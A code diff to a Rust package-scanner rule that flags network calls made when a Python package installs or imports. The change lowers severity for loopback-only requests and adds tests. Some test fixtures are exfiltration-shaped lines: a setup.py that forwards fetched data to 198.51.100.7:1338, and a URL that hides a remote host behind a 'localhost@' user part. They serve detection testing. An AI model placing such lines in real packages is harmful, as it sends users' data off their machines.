@@ -38,11 +38,13 @@ impl Rule for InstallNetwork {
 
     fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
         for unit in analysis.units() {
-            let Some(call) = unit.code.calls.iter().find(|c| {
+            let mut calls = unit.code.calls.iter().filter(|c| {
                 matches!(c.stage, Stage::Install | Stage::Import)
                     && vocab::is_network(&c.name)
                     && !c.name.ends_with("Session")
-            }) else {
+            });
+            // The first request that leaves the machine, else the first one.
+            let Some(call) = calls.clone().find(|c| !loopback_only(c)).or_else(|| calls.next()) else {
                 continue;
             };
             let mut severity = if call.stage == Stage::Install {
@@ -101,6 +103,11 @@ impl Rule for InstallNetwork {
             {
                 severity = Severity::Medium;
             }
+            // A request to this machine (`http://127.0.0.1:8000`, a local dev server or
+            // a test client) carries nothing off it.
+            if loopback_only(call) {
+                severity = Severity::Low;
+            }
             let target = call
                 .arg_strs
                 .iter()
@@ -111,6 +118,22 @@ impl Rule for InstallNetwork {
             out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
         }
     }
+}
+
+/// Every URL the call names is on the loopback interface (and it names one).
+fn loopback_only(call: &crate::inspect::python::Call) -> bool {
+    let mut urls = call.arg_strs.iter().filter_map(|a| a.split_once("://")).peekable();
+    urls.peek().is_some()
+        && urls.all(|(_, rest)| {
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+            let host = authority.rsplit('@').next().unwrap_or("");
+            let host = if host.starts_with('[') {
+                host.split(']').next().unwrap_or("").trim_start_matches('[')
+            } else {
+                host.split(':').next().unwrap_or("")
+            };
+            host.eq_ignore_ascii_case("localhost") || host.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback())
+        })
 }
 
 /// Whether the host of a URL (what follows `scheme://`) is built from unknown
@@ -124,6 +147,26 @@ mod tests {
     use super::*;
     use crate::archive::Kind;
     use crate::inspect::testing::{check, setup_py};
+
+    #[test]
+    fn a_request_to_this_machine_is_a_note() {
+        // No error (held-out pop-f): a client script posting to a local server on import.
+        for url in ["http://127.0.0.1:8000", "http://localhost/x", "http://[::1]:5000/"] {
+            let src = format!("import requests\nr = requests.post('{url}', data=b'x')\n");
+            let f = check(&InstallNetwork, Kind::Wheel, &[("pkg/client.py", &src)]);
+            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Low), "{url}: {f:?}");
+        }
+        // Error: a local fetch, then a request elsewhere.
+        let src = "import requests\nr = requests.get('http://127.0.0.1/x').text\nrequests.get('http://198.51.100.7:1338/?q=' + r)\n";
+        let f = setup_py(&InstallNetwork, src);
+        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
+        // Error: the same post to a host elsewhere; a loopback name as a user part.
+        for url in ["http://198.51.100.7:8000", "http://localhost@198.51.100.7/"] {
+            let src = format!("import requests\nr = requests.post('{url}', data=b'x')\n");
+            let f = check(&InstallNetwork, Kind::Wheel, &[("pkg/client.py", &src)]);
+            assert!(f.iter().any(|f| f.severity >= Severity::High), "{url}: {f:?}");
+        }
+    }
 
     #[test]
     fn fires_on() {
